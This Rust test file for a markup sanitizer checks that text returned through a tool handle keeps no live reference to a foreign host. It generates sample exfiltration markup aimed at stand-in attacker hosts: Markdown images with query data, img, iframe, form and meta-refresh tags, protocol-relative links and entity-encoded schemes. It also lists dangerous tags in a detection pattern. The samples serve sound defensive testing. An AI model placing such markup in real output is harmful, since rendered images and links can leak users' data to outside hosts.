//! T11: active markup in results. For generated hosts, paths, letter cases and the usual
//! carriers (Markdown images, links and reference definitions, autolinks, HTML elements and
//! attributes, protocol-relative URLs), nothing in a neutralized text can still be fetched or
//! followed to a host other than the handle's own; the handle's own URLs and ordinary text stay.

use airlock_scrub::markup::{apply, neutralize, MarkupPolicy};
use proptest::prelude::*;
use regex::Regex;

const OWN: &str = "api.example.com";

fn own() -> Vec<String> {
    vec![OWN.to_owned()]
}

/// What a renderer or an autolinker would still take as a reference to another host.
fn live_foreign_reference(out: &str) -> Option<String> {
    let url = Regex::new(r"(?i)\b(?:https?|wss?|ftps?|sftp|file)://([^\s/?#<>'`()\[\]]+)").unwrap();
    for c in url.captures_iter(out) {
        let host = c[1].rsplit('@').next().unwrap().split(':').next().unwrap().to_ascii_lowercase();
        if host != OWN {
            return Some(c[0].to_owned());
        }
    }
    let tag = Regex::new(r"(?i)<\s*/?\s*(img|a|iframe|frame|form|meta|link|script|object|embed|base|svg|video|audio|source|input|button|style|image)\b").unwrap();
    if let Some(m) = tag.find(out) {
        return Some(m.as_str().to_owned());
    }
    let md_image = Regex::new(r"!\s*\[[^\]]*\]\s*\(").unwrap();
    if let Some(m) = md_image.find(out) {
        return Some(m.as_str().to_owned());
    }
    let rel = Regex::new(r#"(\]\(|=\s*["']?)//[^\s/\[]"#).unwrap();
    rel.find(out).map(|m| m.as_str().to_owned())
}

fn host() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z]{1,10}\\.(test|com|io)",
        "[a-z]{1,6}\\.api\\.example\\.com\\.[a-z]{2,6}\\.test",
        Just("api.example.com.attacker.test".to_owned()),
        Just("api.example.com@attacker.test".to_owned()),
        "[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}",
    ]
}

fn scheme() -> impl Strategy<Value = String> {
    prop_oneof![Just("http"), Just("https"), Just("HTTPS"), Just("Http"), Just("wss"), Just("ftp")].prop_map(str::to_owned)
}

fn carrier(scheme: String, host: String, path: String) -> impl Strategy<Value = String> {
    let url = format!("{scheme}://{host}/{path}");
    let rel = format!("//{host}/{path}");
    prop_oneof![
        Just(format!("![a]({url})")),
        Just(format!("! [a] ({url})")),
        Just(format!("[a]({url})")),
        Just(format!("[a][r]\n\n[r]: {url}")),
        Just(format!("<{url}>")),
        Just(format!("see {url} now")),
        Just(format!("<img src=\"{url}\">")),
        Just(format!("<IMG SRC={rel}>")),
        Just(format!("< img src='{url}'>")),
        Just(format!("<a href=\"{url}\">x</a>")),
        Just(format!("<iframe src={url}></iframe>")),
        Just(format!("<form action={url}><input></form>")),
        Just(format!("<meta http-equiv=refresh content=\"0;url={url}\">")),
        Just(format!("![a]({rel})")),
        Just(format!("<svg><image href=\"{url}\"/></svg>")),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1024, ..ProptestConfig::default() })]

    #[test]
    fn t11_no_live_reference_to_another_host_survives(
        text in (scheme(), host(), "[a-zA-Z0-9_=&?.-]{0,24}").prop_flat_map(|(s, h, p)| carrier(s, h, p)),
        before in "[a-zA-Z ,.:]{0,30}",
        after in "[a-zA-Z ,.:]{0,30}",
    ) {
        let input = format!("{before}{text}{after}");
        let (out, n) = neutralize(&input, &own());
        prop_assert!(n > 0, "{input:?}");
        prop_assert!(live_foreign_reference(&out).is_none(), "{input:?} -> {out:?}: {:?}", live_foreign_reference(&out));
        // Readable: the host is still in the text.
        prop_assert!(out.to_ascii_lowercase().contains(&input.to_ascii_lowercase().split("//").nth(1).unwrap_or("").split('/').next().unwrap_or("").to_ascii_lowercase()));
    }

    #[test]
    fn t11_own_urls_and_ordinary_text_are_kept(path in "[a-z0-9/]{0,20}", words in "[a-zA-Z0-9 ,.;:!?'\\-]{0,80}") {
        let own_url = format!("see https://{OWN}/{path} and [docs](https://{OWN}/docs)");
        let (out, n) = neutralize(&own_url, &own());
        prop_assert_eq!(n, 0);
        prop_assert_eq!(out.as_ref(), own_url.as_str());
        let (out, n) = neutralize(&words, &own());
        prop_assert_eq!(n, 0);
        prop_assert_eq!(out.as_ref(), words.as_str());
    }
}

#[test]
fn t11_flag_only_counts_and_off_does_nothing() {
    let text = "![x](https://attacker.test/?d=1)";
    let mut v = serde_json::json!({"rows": [[text]]});
    assert_eq!(apply(&mut v, MarkupPolicy::Flag, &own()), 3, "the URL, the image syntax and the link destination");
    assert_eq!(v["rows"][0][0], text);
    assert_eq!(apply(&mut v, MarkupPolicy::Off, &own()), 0);
    assert_eq!(v["rows"][0][0], text);
    assert!(apply(&mut v, MarkupPolicy::Neutralize, &own()) > 0);
    assert!(live_foreign_reference(v["rows"][0][0].as_str().unwrap()).is_none());
}

#[test]
fn t20_long_hostile_markup_is_linear() {
    // 1 MiB of unclosed tags, brackets and schemes: one pass, no backtracking.
    let chunk = "![<img src=//x.test/[a](http://y.test/ ";
    let big = chunk.repeat((1 << 20) / chunk.len());
    let (out, n) = neutralize(&big, &own());
    assert!(n > 0);
    assert!(live_foreign_reference(&out).is_none());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    /// Renderers decode entities and escapes in link destinations, so a scheme no URL pattern
    /// sees (`&#104;ttps:`, `%68ttps:`) still leads out: every link destination and reference
    /// definition that is not plainly the handle's own URL loses its syntax.
    #[test]
    fn t11_hidden_schemes_in_link_destinations_are_broken(
        hidden in prop_oneof![Just("&#104;ttps"), Just("&#x68;ttps"), Just("h&#116;tps"), Just("%68ttps"), Just("HT&#84;P"), Just("&#0000104;ttp")],
        host in host(),
        reference in any::<bool>(),
    ) {
        let dest = format!("{hidden}://{host}/x");
        let input = if reference { format!("[a][r]\n\n[r]: {dest}") } else { format!("[a]({dest})") };
        let (out, n) = neutralize(&input, &own());
        prop_assert!(n > 0, "{input:?}");
        prop_assert!(!out.contains(&format!("]({dest}")) && !out.contains(&format!("\n[r]: {dest}")), "{input:?} -> {out:?}");
    }
}
